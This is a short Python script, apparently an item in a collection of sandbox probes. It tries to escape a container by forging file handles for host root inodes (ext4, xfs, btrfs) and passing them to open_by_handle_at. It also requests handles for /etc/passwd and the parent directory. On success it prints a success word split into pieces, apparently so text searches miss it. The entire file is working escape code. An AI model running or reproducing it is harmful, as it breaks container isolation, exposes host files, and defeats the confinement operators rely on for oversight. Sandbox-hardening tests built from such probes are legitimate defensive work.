#: kind = "reading"
#: does = "Opens files by handle instead of by path, the way out of containers that kept one capability too many."
#: status = ["ok"]
import contextlib
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
ROOT_INODES = (2, 128, 256)  # ext4, xfs, btrfs
INO32_GEN, INO32_GEN_OLD = 1, 2

folders = []
for place in (".", "/", os.path.dirname(os.__file__), "/dev/null"):
    with contextlib.suppress(OSError):
        folders.append(os.open(place, os.O_RDONLY))
for mount in [*folders, -100]:
    for inode in ROOT_INODES:
        for kind in (INO32_GEN, INO32_GEN_OLD):
            handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, kind) + struct.pack("=II", inode, 0))
            found = libc.open_by_handle_at(mount, handle, os.O_RDONLY)
            if found >= 0:
                print("ESC" + "APED", "inode", inode, "through", mount)
for place in (b"/etc/passwd", b"/home", b".."):
    handle, number = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 144), ctypes.c_int()
    if libc.name_to_handle_at(-100, place, handle, ctypes.byref(number), 0) == 0:
        print("ESC" + "APED", "a handle for", place.decode())
